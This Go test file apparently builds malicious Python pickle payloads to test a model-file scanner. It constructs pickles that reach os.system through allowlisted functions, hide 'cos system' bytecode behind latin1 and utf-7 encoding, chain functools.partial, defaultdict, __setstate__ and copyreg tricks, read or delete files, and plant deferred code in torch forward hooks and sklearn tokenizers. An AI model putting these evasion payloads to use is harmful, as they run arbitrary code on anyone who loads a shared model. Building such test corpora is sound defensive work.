package floor_test

import (
	"fmt"
	"strings"
)

// theSystem is os.system as allowed functions reach it.
const theSystem = `builtins:getattr(operator:itemgetter("os")(builtins:getattr(operator:itemgetter("_sys")(` +
	`builtins:getattr(builtins:getattr(collections:Counter, "__init__"), "__globals__")), "modules")), "system")`

// tensorItem is the pickle of a tensor, whose storage has eight numbers, with
// an item that the pickle sets.
func tensorItem() []byte {
	p := newProgram().global("torch._utils", "_rebuild_tensor_v2").op('(')
	p.op('(').str("storage").global("torch", "FloatStorage").str("0").str("cpu").num(8).op('t', 'Q')
	return p.num(0).num(8).op(0x85).num(1).op(0x85, 0x89).expr(`collections:OrderedDict()`).op('t', 'R').num(1 << 30).num(1).op('s').end()
}

// numbers lists bytes.
func numbers(b []byte) string {
	var s strings.Builder
	for _, c := range b {
		fmt.Fprintf(&s, "%d, ", c)
	}
	return s.String()
}

// indirect returns the pickles that call what they import through functions
// and methods that are themselves allowed.
func indirect() []*entry {
	out := make([]*entry, 0, 32)
	for _, target := range []struct{ id, fn, arg, what string }{
		{"loads", "torch.storage:_load_from_bytes", "$PICKLE", "unpickles bytes"},
		{"built", "torch.storage:_load_from_bytes", "builtins:bytes([" + numbers(evil()) + "])", "unpickles bytes that it makes of numbers"},
		{"latin", "torch.storage:_load_from_bytes", `_codecs:encode("\u0080\x04cos\nsystem\n\u008c\x04true\u0085R.", "latin1")`, "unpickles bytes that it writes as text"},
		{"utf7", "torch.storage:_load_from_bytes", `_codecs:encode("cos\nsystem\n(S'true'\ntR.", "utf-7")`, "unpickles bytes that it encodes"},
		{"system", theSystem, "$SH", "runs a command"},
	} {
		for _, by := range []struct {
			id, what string
			build    func(p *program, fn, arg string)
		}{
			{"generator", "the constructor of a generator", func(p *program, fn, arg string) {
				p.expr("numpy.random._pickle:__generator_ctor(" + arg + ", " + fn + ")")
			}},
			{"partial", "a partial object", func(p *program, fn, arg string) { p.expr("functools:partial(" + fn + ", " + arg + ")()") }},
			{"sentinel", "an iterator that ends at a value", func(p *program, fn, arg string) {
				p.expr("builtins:list(builtins:iter(functools:partial(" + fn + ", " + arg + "), None))")
			}},
			{"factory", "a dictionary that makes what is missing", func(p *program, fn, arg string) {
				p.expr(`operator:itemgetter("x")(collections:defaultdict(functools:partial(` + fn + ", " + arg + ")))")
			}},
			{"set-state", "a method that the state of an object replaced", func(p *program, fn, arg string) {
				p.expr("argparse:Namespace()").expr(`{"__setstate__": ` + fn + "}").op('b').expr(arg).op('b')
			}},
			{"append", "a method of a list that is none", func(p *program, fn, arg string) {
				p.expr("argparse:Namespace()").expr(`{"append": ` + fn + "}").op('b').expr(arg).op('a')
			}},
			{"add", "a method of a set that is none", func(p *program, fn, arg string) {
				p.expr("types:SimpleNamespace()").expr(`{"add": `+fn+"}").op('b', '(').expr(arg).op(0x90)
			}},
			{"rebuild", "a function that makes tensors of any type", func(p *program, fn, arg string) {
				p.expr("torch._tensor:_rebuild_from_type_v2(" + fn + ", torch:Tensor, (" + arg + ",), {})")
			}},
			{"new-object", "a class that is none", func(p *program, fn, arg string) { p.expr("copyreg:__newobj__(" + fn + ", " + arg + ")") }},
			{"attribute", "the attribute of an attribute", func(p *program, fn, arg string) {
				p.expr(`builtins:getattr(` + fn + `, "__call__")(` + arg + ")")
			}},
			{"method", "a method by its name", func(p *program, fn, arg string) {
				p.expr(`operator:methodcaller("__call__", ` + arg + ")(" + fn + ")")
			}},
			{"getter", "an attribute by its name", func(p *program, fn, arg string) {
				p.expr(`operator:attrgetter("__call__")(` + fn + ")(" + arg + ")")
			}},
			{"item", "an item of a list", func(p *program, fn, arg string) { p.expr("operator:itemgetter(0)([" + fn + "])(" + arg + ")") }},
			{"unpacked", "an item of an iterator", func(p *program, fn, arg string) {
				p.expr("operator:itemgetter(0)(builtins:list(builtins:iter([" + fn + "])))(" + arg + ")")
			}},
		} {
			out = append(out, &entry{
				ids: []string{"indirect-" + target.id + "-" + by.id}, format: "pickle", name: "model.pkl", runs: true,
				what: target.what + " through " + by.what, make: func(facts) []byte {
					p := newProgram()
					by.build(p, target.fn, target.arg)
					return p.end()
				},
			})
		}
	}
	for _, x := range []struct{ id, what, expr string }{
		{"indirect-path-write", "writes a file through a method of a path", `operator:methodcaller("write_text", "x")(pathlib:Path("quintain-canary"))`},
		{"indirect-path-unlink", "deletes a file through an attribute of a path", `builtins:getattr(pathlib:Path("quintain-canary"), "unlink")()`},
		{"indirect-path-read", "reads a file through a method of a path", `operator:methodcaller("read_text")(pathlib:PosixPath("/etc/hostname"))`},
		{"indirect-array-tofile", "writes a file through a method of an array", `operator:methodcaller("tofile", "quintain-canary")(numpy:ndarray((1,)))`},
		{"indirect-array-dump", "writes a file through an attribute of an array", `builtins:getattr(numpy:ndarray((1,)), "dump")("quintain-canary")`},
	} {
		out = append(out, &entry{ids: []string{x.id}, format: "pickle", name: "model.pkl", what: x.what, make: func(facts) []byte { return newProgram().expr(x.expr).end() }})
	}
	return out
}

// deferred returns the pickles that keep a function that somebody else calls
// later: the program that uses the model.
func deferred() []*entry {
	built := "functools:partial(torch.storage:_load_from_bytes, builtins:bytes([" + numbers(evil()) + "]))"
	out := make([]*entry, 0, 8)
	for _, x := range []struct{ id, what, class, state string }{
		{"deferred-hook", "runs when the model is asked", "torch.nn.modules.linear:Identity", `{"training": False, "_forward_hooks": {1: ` + built + `}}`},
		{"deferred-forward", "runs in place of the model", "torch.nn.modules.linear:Identity", `{"training": False, "forward": ` + built + `}`},
		{"deferred-load-hook", "runs when weights are loaded into the model", "torch.nn.modules.linear:Identity", `{"_load_state_dict_pre_hooks": {1: ` + built + `}}`},
		{"deferred-attribute", "runs when a method of the object is called", "argparse:Namespace", `{"predict": ` + built + `}`},
		{"deferred-estimator", "runs when the model is fitted again", "sklearn.feature_extraction.text:CountVectorizer", `{"tokenizer": ` + built + `}`},
		{"deferred-system", "runs a command when the model is asked", "torch.nn.modules.linear:Identity", `{"forward": functools:partial(` + theSystem + `, $SH)}`},
	} {
		out = append(out, &entry{ids: []string{x.id}, format: "pickle", name: "model.pkl", what: x.what, runs: true, make: func(facts) []byte {
			return newProgram().expr(x.class).op(')', 0x81).expr(x.state).op('b').end()
		}})
	}
	return out
}
